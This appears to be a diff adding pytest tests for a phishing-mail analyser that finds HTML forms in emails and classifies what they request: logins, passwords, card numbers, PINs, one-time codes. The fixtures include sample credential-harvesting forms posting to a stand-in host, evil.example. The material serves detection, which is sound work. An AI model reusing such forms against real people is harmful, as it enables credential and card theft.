@@ -1,0 +1,62 @@
+"""Forms a mail brings along."""
+
+from __future__ import annotations
+
+import pytest
+from tests.observing import observed
+
+from gyotaku.model.facts import Form
+from gyotaku.model.html import Field
+from gyotaku.observe.forms import asked
+
+HEAD = "From: a@a.example\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n{}\n"
+
+
+def test_form_in_the_body() -> None:
+    """A form says where it sends to, by which method, and what it asks for."""
+    html = (
+        '<form action="https://evil.example/p.php" method="POST"><input type="hidden" name="k" value="1">'
+        '<input name="email" type="email"><input name="pw" type="password"><input type="submit"></form>'
+    )
+    found = observed(HEAD.format("") + html, "forms").first(Form)
+    assert found is not None
+    form = found[0]
+    assert (form.action, form.method, form.host, form.place) == ("https://evil.example/p.php", "post", "evil.example", "body")
+    assert form.asks == ("login", "password")
+
+
+def test_attached_form() -> None:
+    """A form in an attached page is told from one in the body."""
+    html = '<form action="https://evil.example/"><input name="card_number"></form>'
+    found = observed(HEAD.format("Content-Disposition: attachment; filename=a.html\n") + html, "forms").first(Form)
+    assert found is not None
+    assert (found[0].place, found[0].asks) == ("attachment", ("card",))
+
+
+def test_form_without_fields() -> None:
+    """A form that a reader cannot fill in is none."""
+    assert (
+        observed(HEAD.format("") + '<form action="https://a.example/"><input type="submit"></form>', "forms").first(Form) is None
+    )
+
+
+@pytest.mark.parametrize(
+    ("fields", "asks"),
+    [
+        ([("user_id", "text", "ログインID"), ("pass", "password", "")], ("login", "password")),
+        (
+            [("a", "text", "カード番号"), ("b", "text", "有効期限"), ("c", "password", "セキュリティコード")],
+            ("card", "expiry", "security-code"),
+        ),
+        ([("otp", "text", "")], ("otp",)),
+        ([("pin", "password", "暗証番号")], ("pin",)),
+        ([("email", "email", "")], ("personal",)),
+        ([("name", "text", ""), ("tel", "tel", "")], ("personal",)),
+        ([("q", "search", "検索")], ()),
+        ([("x", "password", "")], ("password",)),
+        ([("senha", "text", "")], ("password",)),
+    ],
+)
+def test_asked(fields: list[tuple[str, str, str]], asks: tuple[str, ...]) -> None:
+    """Names, types and labels tell what is asked; an address alone is no login."""
+    assert asked(tuple(Field(name=name, kind=kind, label=label) for name, kind, label in fields)) == asks
